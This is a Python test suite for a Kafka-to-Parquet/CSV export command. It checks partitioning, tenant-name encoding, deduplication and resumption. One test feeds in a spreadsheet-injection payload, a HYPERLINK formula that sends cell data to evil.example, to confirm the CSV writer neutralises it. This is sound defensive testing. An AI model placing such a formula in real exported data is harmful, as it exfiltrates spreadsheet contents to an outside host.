"""`erc-stream export --format parquet|csv` on the real broker: partitions, contents, copies, resumption."""

from __future__ import annotations

import csv
import json
import os
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow.dataset as ds
import pyarrow.parquet as pq
from click.testing import CliRunner
from kafka import KafkaConsumer, TopicPartition

from core.records import EmotionEvent
from core.settings import Settings
from erc_stream.cli import main
from erc_stream.export import SCHEMA, Exporter, data_files, read_dataset
from tests.kafka_helpers import produce_raw

LABELS = ("neutral", "surprise", "fear", "sad", "joyful", "disgust", "angry")
DAY1 = datetime(2026, 1, 5, 23, 59, 30, tzinfo=UTC)
DAY2 = DAY1 + timedelta(minutes=1)  # 2026-01-06


def _event(run: str, i: int, *, tenant: str | None, emitted_at: datetime, label: str = "angry",
           gold: str | None = None) -> EmotionEvent:
    probs = {name: (0.4 if name == label else 0.1) for name in LABELS}
    conv = f"{run}:c{i % 3}"
    mid = f"{conv}:{i}"
    return EmotionEvent(event_id=EmotionEvent.make_id(tenant=tenant, conversation_id=conv, message_id=mid, model="m", adapter="a"), message_id=mid, conversation_id=conv, turn=i,
                        speaker="A", tenant=tenant, label=label, probabilities=probs, label_set="meld", model="m",
                        adapter="a", window=3, latency_ms=12.5, emitted_at=emitted_at, gold_label=gold)


def _env(settings: Settings) -> dict[str, str]:
    k = settings.kafka
    return {"ERC_KAFKA__BOOTSTRAP_SERVERS": k.bootstrap_servers, "ERC_KAFKA__OUTPUT_TOPIC": k.output_topic,
            "ERC_EXPORT__GROUP_ID": f"{k.group_id}-export", "ERC_EXPORT__FLUSH_EVENTS": "4"}


def _export(settings: Settings, out: Path, fmt: str = "parquet", **extra: str) -> str:
    result = CliRunner().invoke(main, ["export", "--format", fmt, "--out", str(out)],
                                env={**_env(settings), **extra})
    assert result.exit_code == 0, result.output + repr(result.exception)
    return result.output


def _committed(settings: Settings, group: str) -> dict[int, int | None]:
    c = KafkaConsumer(group_id=group, enable_auto_commit=False, **settings.kafka.client_options())
    try:
        return {p: c.committed(TopicPartition(settings.kafka.output_topic, p)) for p in range(settings.kafka.partitions)}
    finally:
        c.close(autocommit=False)


def test_parquet_export_is_partitioned_deduplicated_and_resumable(settings: Settings, tmp_path: Path) -> None:
    run = uuid.uuid4().hex[:6]
    tenants = ["acme", "b/c d", None]  # a tenant that needs encoding in a path, and none
    first = [_event(run, i, tenant=tenants[i % 3], emitted_at=DAY1 if i < 6 else DAY2,
                    label=LABELS[i % 7], gold="angry" if i % 2 else None) for i in range(9)]
    items = [(e.conversation_id.encode(), e.to_bytes()) for e in first]
    items.insert(3, items[1])  # a redelivered copy, same event_id
    items.insert(5, (b"junk", b"not an event"))  # never stops the export
    metas = produce_raw(settings, settings.kafka.output_topic, items)
    ends: dict[int, int] = {}
    for m in metas:
        ends[m.partition] = max(ends.get(m.partition, 0), m.offset + 1)

    out = tmp_path / "events"
    output = _export(settings, out)
    assert "exported 9 events" in output and "1 copies dropped, 1 skipped" in output

    # The layout a BI tool expects: date=/tenant= directories, tenant URL-encoded.
    dirs = {str(f.parent.relative_to(out)) for f in data_files(out)}
    assert dirs == {"date=2026-01-05/tenant=acme", "date=2026-01-05/tenant=b%2Fc%20d",
                    "date=2026-01-05/tenant=__none__", "date=2026-01-06/tenant=acme",
                    "date=2026-01-06/tenant=b%2Fc%20d", "date=2026-01-06/tenant=__none__"}
    assert not [p for p in out.rglob(".*")]  # no temporaries left behind
    one = pq.read_table(data_files(out)[0])
    assert one.schema.names == SCHEMA.names  # date and tenant live in the path

    table = read_dataset(out)
    rows = {r["event_id"]: r for r in table.to_pylist()}
    assert table.num_rows == 9 and set(rows) == {e.event_id for e in first}
    for e in first:
        r = rows[e.event_id]
        assert (r["message_id"], r["conversation_id"], r["turn"], r["label"], r["tenant"], r["gold_label"]) == (
            e.message_id, e.conversation_id, e.turn, e.label, e.tenant, e.gold_label)
        assert r["date"] == e.emitted_at.strftime("%Y-%m-%d") and r["emitted_at"] == e.emitted_at
        assert r["confidence"] == 0.4 and json.loads(r["probabilities"]) == e.probabilities
    assert sorted(table.column("label").to_pylist()) == sorted(e.label for e in first)
    # A plain hive-partitioned read (what DuckDB/Spark do) sees the same rows, tenant decoded.
    plain = ds.dataset(str(out), format="parquet", partitioning="hive").to_table()
    assert plain.num_rows == 9 and "b/c d" in set(map(str, plain.column("tenant").to_pylist()))

    group = f"{settings.kafka.group_id}-export"
    assert _committed(settings, group) == {p: ends.get(p) for p in range(settings.kafka.partitions)}

    # A second run resumes: only what came since (a copy of an old event is dropped, from the files).
    more = [_event(run, i, tenant="acme", emitted_at=DAY2) for i in range(9, 12)]
    produce_raw(settings, settings.kafka.output_topic,
                [(e.conversation_id.encode(), e.to_bytes()) for e in more] + [items[0]])
    output = _export(settings, out)
    assert "exported 3 events" in output and "1 copies dropped" in output
    assert read_dataset(out).num_rows == 12

    # Offsets lost (a crash after the files, before the commit; here: a fresh group): nothing twice.
    again = Exporter(settings, out, "parquet", group_id=f"{group}-fresh").run()
    assert again.events == 0 and again.copies == 12 + 2 and again.files == []  # 12 events, 2 copies
    assert read_dataset(out).num_rows == 12


def test_csv_export_carries_date_and_tenant_columns(settings: Settings, tmp_path: Path) -> None:
    run = uuid.uuid4().hex[:6]
    events = [_event(run, i, tenant=["acme", None][i % 2], emitted_at=DAY1, label=LABELS[i % 7]) for i in range(5)]
    produce_raw(settings, settings.kafka.output_topic, [(e.conversation_id.encode(), e.to_bytes()) for e in events])
    out = tmp_path / "csv"
    assert "exported 5 events" in _export(settings, out, "csv")
    files = data_files(out)
    assert {f.suffix for f in files} == {".csv"} and len(files) == 2
    rows = [row for f in files for row in csv.DictReader(f.open())]
    assert sorted(r["event_id"] for r in rows) == sorted(e.event_id for e in events)
    assert {(r["date"], r["tenant"]) for r in rows} == {("2026-01-05", "acme"), ("2026-01-05", "")}
    assert all(datetime.fromisoformat(r["emitted_at"]) == DAY1 for r in rows)
    table = read_dataset(out)
    assert table.num_rows == 5 and sorted(table.column("tenant").to_pylist(), key=str) == sorted(
        [e.tenant for e in events], key=str)
    assert os.path.basename(files[0]).startswith("part-")


def test_any_tenant_name_and_formula_looking_cells_are_exported_safely(settings: Settings, tmp_path: Path) -> None:
    run = uuid.uuid4().hex[:6]
    long_tenant = ("Zürich-Ünïcødé-租户-" * 60)[:1000]  # ~2,000 bytes in UTF-8, ~6,000 URL-encoded
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    tenants = [long_tenant, "__none__", "~sha256-looks-hashed", "acme"]  # a reserved name and one like a hash
    events = [_event(run, i, tenant=tenants[i % 4], emitted_at=DAY1).model_copy(update={"speaker": formula})
              for i in range(8)]
    events[3] = events[3].model_copy(update={"speaker": "-2+3", "gold_label": "@SUM(A1)"})
    events[7] = events[7].model_copy(update={"speaker": "'already quoted"})
    produce_raw(settings, settings.kafka.output_topic, [(e.conversation_id.encode(), e.to_bytes()) for e in events])
    by_id = {e.event_id: e for e in events}
    folders: dict[str, set[str]] = {}

    for fmt in ("csv", "parquet"):
        out = tmp_path / fmt
        env = {"ERC_EXPORT__GROUP_ID": f"{settings.kafka.group_id}-{fmt}"}
        assert "exported 8 events" in _export(settings, out, fmt, **env)
        files = data_files(out)
        names = folders[fmt] = {f.parent.name for f in files}
        assert len(names) == 4 and "tenant=acme" in names and "tenant=__none__" not in names
        assert all(len(name.encode()) <= 128 for name in names), names
        hashed = sorted(name for name in names if name.startswith("tenant=~sha256-"))
        assert len(hashed) == 3 and all(len(name) == len("tenant=~sha256-") + 32 for name in hashed)
        # read back: every row, the tenant's real name, the cells as they were
        rows = {r["event_id"]: r for r in read_dataset(out).to_pylist()}
        assert set(rows) == set(by_id)
        for event_id, e in by_id.items():
            r = rows[event_id]
            assert (r["tenant"], r["tenant_name"], r["speaker"], r["gold_label"]) == (
                e.tenant, e.tenant, e.speaker, e.gold_label)
        if fmt == "csv":  # what a spreadsheet opens: no cell starts a formula
            cells = [row for f in files for row in csv.DictReader(f.open(encoding="utf-8"))]
            assert {c["speaker"] for c in cells} == {"'" + formula, "'-2+3", "''already quoted"}
            assert {c["gold_label"] for c in cells} == {"", "'@SUM(A1)"}
            assert not [v for c in cells for v in c.values() if v and v[0] in "=+-@\t\r"]
            assert {c["tenant"] for c in cells} == {c["tenant_name"] for c in cells} == set(tenants)
        else:  # a plain Hive read (DuckDB, Spark) groups by tenant_name
            plain = ds.dataset(str(out), format="parquet", partitioning="hive").to_table()
            assert set(plain.column("tenant_name").to_pylist()) == set(tenants)

    assert folders["csv"] == folders["parquet"]

    # resumed: the same folders again (stable names), nothing twice
    more = [_event(run, i, tenant=long_tenant, emitted_at=DAY1) for i in range(8, 12)]
    produce_raw(settings, settings.kafka.output_topic,
                [(e.conversation_id.encode(), e.to_bytes()) for e in more + events[:1]])
    for fmt in ("csv", "parquet"):
        out = tmp_path / fmt
        output = _export(settings, out, fmt, ERC_EXPORT__GROUP_ID=f"{settings.kafka.group_id}-{fmt}")
        assert "exported 4 events" in output and "1 copies dropped" in output
        assert {f.parent.name for f in data_files(out)} == folders[fmt]
        again = read_dataset(out)
        assert again.num_rows == 12 and again.column("tenant").to_pylist().count(long_tenant) == 6


def test_files_of_earlier_versions_read_alongside_new_ones(tmp_path: Path) -> None:
    """Files written before ``tenant_name`` existed (the tenant only in the folder, or the CSV column) still read,
    the tenant decoded once."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    from erc_stream.export import _row, _write_file

    old_schema = pa.schema([f for f in SCHEMA if f.name != "tenant_name"])
    row = _row(_event("old", 1, tenant="a%2Fb c", emitted_at=DAY1), 0, 7)
    del row["tenant_name"]
    folder = tmp_path / "date=2026-01-05" / "tenant=a%252Fb%20c"
    folder.mkdir(parents=True)
    pq.write_table(pa.Table.from_pylist([row], schema=old_schema), folder / "part-old.parquet")
    old_csv = pa.Table.from_pylist([{**row, "emitted_at": DAY1.isoformat(), "date": "2026-01-05",
                                     "tenant": "x%20y"}])
    (tmp_path / "date=2026-01-05" / "tenant=x%2520y").mkdir()
    pacsv.write_csv(old_csv, tmp_path / "date=2026-01-05" / "tenant=x%2520y" / "part-old.csv")
    new = _event("new", 2, tenant="a%2Fb c", emitted_at=DAY1)
    _write_file(folder, pa.Table.from_pylist([_row(new, 0, 8)], schema=SCHEMA), "parquet", "2026-01-05", new.tenant)
    table = read_dataset(tmp_path)
    assert sorted(table.column("tenant").to_pylist()) == ["a%2Fb c", "a%2Fb c", "x%20y"]
